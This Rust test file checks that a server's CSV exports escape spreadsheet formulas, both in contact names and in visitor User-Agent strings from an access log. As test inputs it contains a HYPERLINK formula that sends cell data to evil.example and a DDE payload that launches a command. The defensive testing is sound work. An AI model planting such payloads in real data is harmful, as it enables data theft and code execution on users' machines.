//! CSV replies neutralise text a spreadsheet would run as a formula (issue 10, item 5): a
//! contact's name set by staff and a User-Agent set by any portal visitor come back as text.

use serde_json::json;

use crate::support::{Req, TestServer};

/// The data rows of a CSV body (after the header row).
fn rows(body: &str) -> Vec<&str> {
    body.split("\r\n")
        .skip(1)
        .filter(|r| !r.is_empty())
        .collect()
}

#[test]
fn a_contact_name_that_is_a_formula_goes_out_as_text() {
    let s = TestServer::start();
    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    s.put(
        "/v1/contact/3",
        json!({"FirstName": name, "LastName": "-2+3", "EmailWork": "x@example.com", "Phone": "+15551234567"}),
    )
    .expect(200);
    let r = s.get("/v1/contact?format=csv");
    assert_eq!(r.status, 200, "{r:?}");
    let body = &r.body;
    assert!(
        body.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""),
        "{body}"
    );
    assert!(body.contains(",'-2+3,"), "{body}");
    assert!(
        body.contains(",+15551234567,") && rows(body)[0].starts_with("3,"),
        "numbers stay numbers: {body}"
    );
    assert!(!rows(body).iter().any(|row| row.starts_with('=')), "{body}");
}

#[test]
fn a_visitors_user_agent_in_the_access_log_goes_out_as_text() {
    let s = TestServer::start();
    let created = s.quote_link(1, "a@example.com");
    let token = crate::support::portal_token(&created);
    let link_uid = created["Link"]["CustomerLinkUID"].as_str().unwrap();
    let agent = "=cmd|' /C calc'!A0";
    Req::new(s.addr, "POST", &format!("/portal/{token}/open"))
        .header("User-Agent", agent)
        .send()
        .expect(200);
    let r = s.get(&format!("/v1/customerlink/{link_uid}/log?format=csv"));
    assert_eq!(r.status, 200, "{r:?}");
    assert!(r.body.contains("UserAgent"), "{}", r.body);
    assert!(r.body.contains(",'=cmd|' /C calc'!A0,"), "{}", r.body);
    assert!(!r.body.contains(",=cmd"), "{}", r.body);
}
